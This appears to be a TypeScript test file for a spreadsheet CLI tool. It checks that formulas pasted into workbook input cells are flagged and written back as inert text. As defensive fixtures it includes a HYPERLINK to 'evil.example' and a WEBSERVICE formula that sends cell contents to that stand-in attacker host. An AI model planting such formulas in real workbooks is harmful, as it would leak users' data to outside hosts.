import * as fs from "node:fs";
import ExcelJS from "exceljs";
import { followup, tempDir } from "./cli-harness";
import { writeFilledWorkbook } from "./workbook-fixture";

/**
 * Formulas pasted into input cells are never written back live (a rewrite must not run a pasted
 * =WEBSERVICE, nor a close lock it in): they come back as their text, and check flags them.
 */

const SHEET = "1 Trygghet och brott";

async function cellsFor(file: string, rowId: string): Promise<Record<string, ExcelJS.Cell>> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(file);
  const ws = wb.getWorksheet(SHEET);
  if (ws === undefined) throw new Error(SHEET);
  const headers: Record<number, string> = {};
  ws.getRow(7).eachCell((c, n) => (headers[n] = String(c.value)));
  const out: Record<string, ExcelJS.Cell> = {};
  ws.eachRow((row) => {
    if (row.getCell(1).value === rowId) row.eachCell({ includeEmpty: true }, (c, n) => (out[headers[n] ?? ""] = c));
  });
  return out;
}

async function paste(file: string, rowId: string, header: string, formula: string): Promise<void> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(file);
  const ws = wb.getWorksheet(SHEET);
  if (ws === undefined) throw new Error(SHEET);
  let column = 0;
  ws.getRow(7).eachCell((c, n) => {
    if (c.value === header) column = n;
  });
  ws.eachRow((row) => {
    if (row.getCell(1).value === rowId) row.getCell(column).value = { formula };
  });
  await wb.xlsx.writeFile(file);
}

it.each([
  ["summary --write", ["summary", "FILE", "--write"]],
  ["close --force", ["close", "FILE", "--force"]],
])("%s writes pasted formulas back as text, in text columns and number columns alike", async (_, argv) => {
  const dir = tempDir();
  const file = await writeFilledWorkbook(dir, "filled.xlsx");
  await paste(file, "1.A1", "Kommentar/analys", 'HYPERLINK("http://evil.example","klicka")');
  await paste(file, "1.I1", "Värde i år", 'WEBSERVICE("http://evil.example/?d="&A1)');

  const check = await followup(["check", file, "--json"], dir);
  const codes = (JSON.parse(check.stdout) as { findings: { code: string; rowId: string }[] }).findings.map(
    (f) => `${f.code} ${f.rowId}`
  );
  expect(codes).toEqual(expect.arrayContaining(["formulaInText 1.A1", "formulaInInput 1.I1"]));

  const result = await followup(
    argv.map((a) => (a === "FILE" ? file : a)),
    dir
  );
  expect(result.code).toBe(0);
  const comment = (await cellsFor(file, "1.A1"))["Kommentar/analys"];
  const value = (await cellsFor(file, "1.I1"))["Värde i år"];
  expect(comment?.formula).toBeUndefined();
  expect(comment?.value).toBe('=HYPERLINK("http://evil.example","klicka")');
  expect(value?.formula).toBeUndefined();
  expect(value?.value).toBe('=WEBSERVICE("http://evil.example/?d="&A1)');
  // Text-formatted, so Excel keeps it as text when the cell is edited or written by the add-in.
  expect(value?.numFmt).toBe("@");
  fs.rmSync(dir, { recursive: true, force: true });
});
